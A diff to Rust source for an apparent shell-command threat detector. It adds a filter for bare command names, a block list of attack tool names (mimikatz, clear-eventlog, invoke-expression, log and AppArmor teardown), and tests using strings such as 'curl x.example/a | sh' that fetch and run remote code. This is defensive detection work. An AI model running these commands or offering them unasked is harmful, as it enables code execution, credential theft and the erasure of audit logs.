@@ -14,7 +14,7 @@ mod windows;
 use std::borrow::Cow;
 use std::ops::Range;
 
-use super::flow::{self, Part};
+use super::flow::{self, Data, Part};
 use super::script::{Call, Command, Joined, RedirectKind, Script};
 
 /// A script with what its commands run and what flows through it.
@@ -66,7 +66,8 @@ impl<'s> Scene<'s> {
     /// Where something is that no ordinary command does.
     pub(super) fn find(&self) -> Option<Range<usize>> {
         let commands = || (0..self.script.commands.len()).map(|index| At { scene: self, index });
-        let found = commands().find(|at| CHECKS.iter().any(|check| check(*at))).map(|at| at.index);
+        let judged = commands().filter(|at| !at.says_nothing());
+        let found = { judged }.find(|at| CHECKS.iter().any(|check| check(*at))).map(|at| at.index);
         let found = found.or_else(|| execution::runs_what_it_wrote(self)).or_else(|| destruction::is_bomb(self))?;
         Some(self.script.commands[found].span.clone())
     }
@@ -105,6 +106,23 @@ impl<'s> At<'s> {
         self.scene.parts[self.index]
     }
 
+    /// Whether it is a name alone, which nothing is handed to and nothing is made of: a text may be full of them, and no
+    /// check asks for more than a few.
+    fn says_nothing(&self) -> bool {
+        let (command, part) = (self.command(), self.part());
+        let [name] = &command.words[..] else { return false };
+        let is_name = |byte: &u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || matches!(byte, b'-' | b'_');
+        command.assignments.is_empty()
+            && command.redirects.is_empty()
+            && !name.is_hidden
+            && name.raw == name.text
+            && name.raw.as_bytes().iter().all(is_name)
+            && self.feeder().is_none()
+            && part.piped == Data::default()
+            && part.in_words() == Data::default()
+            && !ALONE.contains(&name.raw)
+    }
+
     /// The command that pipes into this one.
     pub(super) fn feeder(&self) -> Option<At<'s>> {
         self.scene.feeders[self.index].map(|index| At { index, ..*self })
@@ -124,6 +142,19 @@ impl<'s> At<'s> {
         self.call().args().iter().any(|word| word.text.contains("$()") && in_word(&word.text))
     }
 }
+
+/// The commands whose name alone is an attack, or a part of one.
+const ALONE: &[&str] = &[
+    "aa-disable",
+    "aa-teardown",
+    "clear-eventlog",
+    "iex",
+    "invoke-expression",
+    "killall5",
+    "mimikatz",
+    "remove-eventlog",
+    "ztcp",
+];
 
 /// Shells, by their programs' names.
 pub(super) const SHELLS: &[&str] =
@@ -149,4 +180,48 @@ pub(super) fn is_interpreter(name: &str) -> bool {
             | "tclsh"
             | "ipython"
     )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::threats::code::shell::names::COMMANDS;
+    use crate::threats::code::shell::tokens;
+
+    /// How many checks a script's last command does not pass, asked even where it says nothing.
+    fn failed(script: &Script<'_>) -> usize {
+        let scene = Scene::new(script);
+        let last = At { scene: &scene, index: script.commands.len() - 1 };
+        CHECKS.iter().filter(|check| check(last)).count()
+    }
+
+    #[test]
+    fn what_is_not_asked_would_pass() {
+        let lists =
+            [COMMANDS, SHELLS, flow::FETCHERS, &["nc", "ncat", "socat", "at", "batch", "crontab", "history", "mkfs"]];
+        for name in lists.concat() {
+            for text in [name.to_owned(), format!("curl -s x.example/a; {name}"), format!("cd /; mkfifo p; env; {name}")] {
+                let script = tokens::read(&text);
+                let scene = Scene::new(&script);
+                let last = At { scene: &scene, index: script.commands.len() - 1 };
+                assert!(!last.says_nothing() || failed(&script) == 0, "{text}");
+            }
+        }
+    }
+
+    #[test]
+    fn names_that_are_enough_are_asked() {
+        for text in [
+            "aa-teardown",
+            "killall5",
+            "mimikatz",
+            "clear-eventlog",
+            "ztcp",
+            "curl x.example/a | sh",
+            "(curl x.example/a) | { cd x; sh; }",
+        ] {
+            let script = tokens::read(text);
+            assert!(Scene::new(&script).find().is_some(), "{text}");
+        }
+    }
 }
